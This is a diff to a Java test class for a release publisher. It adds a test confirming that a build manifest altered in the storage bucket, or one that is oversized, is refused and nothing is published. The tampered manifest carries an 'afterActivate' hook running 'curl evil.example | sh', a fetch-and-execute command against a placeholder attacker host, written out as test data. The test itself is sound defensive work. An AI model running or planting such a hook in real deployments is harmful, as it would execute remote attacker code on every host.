@@ -73,6 +73,35 @@ class ReleasePublisherTest {
     }
 
     @Test
+    void aManifestChangedInTheMasterBucketAfterTheBuildIsNeverPublished() throws Exception {
+        String env = newEnvironment();
+        long build = cluster.deployableBuild();
+        dev.codedeploy.queue.Job job = new dev.codedeploy.queue.JobQueue(cluster.database(), dev.codedeploy.queue.QueueConfig.DEFAULTS)
+                .find(build).orElseThrow();
+        dev.codedeploy.build.BuildManifest stored = dev.codedeploy.build.BuildManifest.fromJson(
+                cluster.blobs().getBytes(job.manifestKey()), job.manifestKey());
+        // whoever can write the bucket adds a hook that every host would run
+        com.fasterxml.jackson.databind.JsonNode hook = dev.codedeploy.json.Json.MAPPER.readTree(
+                "{\"hooks\": {\"afterActivate\": [\"sh\", \"-c\", \"curl evil.example | sh\"]}}");
+        dev.codedeploy.build.BuildManifest altered = new dev.codedeploy.build.BuildManifest(stored.version(), stored.sha(), stored.jobId(),
+                stored.attempt(), stored.repoUrl(), stored.size(), stored.sha256(), stored.pieceSize(), stored.format(), stored.fileName(),
+                stored.createdAt(), stored.artifactKey(), stored.torrentKey(), stored.logKey(), hook);
+        cluster.blobs().putBytes(job.manifestKey(), altered.toJson(), "application/json", java.util.Map.of());
+
+        assertThatThrownBy(() -> plane.publish(env, build, "alice", null))
+                .isInstanceOf(InvalidInputException.class).hasMessageContaining("is not the one build " + build + " stored")
+                .hasMessageContaining("nothing was published");
+        assertThat(cluster.controlClient(cluster.master).checkExists().forPath(ZkLayout.release(env))).isNull();
+        assertThat(plane.history().recent(env, 1)).isEmpty();
+
+        // a manifest larger than any a build writes is not even read whole
+        cluster.blobs().putBytes(job.manifestKey(), new byte[(int) dev.codedeploy.build.BuildManifest.MAX_BYTES + 1], "application/json",
+                java.util.Map.of());
+        assertThatThrownBy(() -> plane.publish(env, build, "alice", null)).isInstanceOf(InvalidInputException.class)
+                .hasMessageContaining("holds more than");
+    }
+
+    @Test
     void unknownUndeployableAndMalformedRequestsAreClearErrorsThatChangeNothing() {
         String env = newEnvironment();
         assertThatThrownBy(() -> plane.publish(env, 999_999, "alice", null))
@@ -127,19 +156,19 @@ class ReleasePublisherTest {
     @Test
     void ofTwoPublishersThatReadTheSameRecordOnlyOneWrites() {
         String env = newEnvironment();
-        ReleaseStore store = new ReleaseStore(cluster.controlClient(cluster.master), cluster.keys.getPublic(), "master");
+        ReleaseNodes store = new ReleaseNodes(cluster.controlClient(cluster.master), cluster.keyring(), "master");
         ReleaseWriter first = new ReleaseWriter(store, cluster.keys.getPrivate(), "test", e -> 0);
         ReleaseWriter second = new ReleaseWriter(store, cluster.keys.getPrivate(), "test", e -> 0);
-        first.write(env, null, ReleaseBuilder.from(RegionSyncTest.release(1)));
-        ReleaseStore.Stored seenByBoth = store.read(env).orElseThrow();
-        Release won = first.write(env, seenByBoth, ReleaseBuilder.from(RegionSyncTest.release(2)));
-        assertThatThrownBy(() -> second.write(env, seenByBoth, ReleaseBuilder.from(RegionSyncTest.release(3))))
+        first.write(env, null, ReleaseBuilder.from(RegionSyncTest.release(env, 1)));
+        ReleaseNodes.Stored seenByBoth = store.read(env).orElseThrow();
+        Release won = first.write(env, seenByBoth, ReleaseBuilder.from(RegionSyncTest.release(env, 2)));
+        assertThatThrownBy(() -> second.write(env, seenByBoth, ReleaseBuilder.from(RegionSyncTest.release(env, 3))))
                 .isInstanceOf(ReleaseConflictException.class).hasMessageContaining("version 2 (build 2");
         assertThat(store.read(env).orElseThrow().release()).isEqualTo(won);
         // and two writers creating the first record at once: the second finds it there
         String fresh = newEnvironment();
-        first.write(fresh, null, ReleaseBuilder.from(RegionSyncTest.release(1)));
-        assertThatThrownBy(() -> second.write(fresh, null, ReleaseBuilder.from(RegionSyncTest.release(2))))
+        first.write(fresh, null, ReleaseBuilder.from(RegionSyncTest.release(fresh, 1)));
+        assertThatThrownBy(() -> second.write(fresh, null, ReleaseBuilder.from(RegionSyncTest.release(fresh, 2))))
                 .isInstanceOf(ReleaseConflictException.class);
     }
 
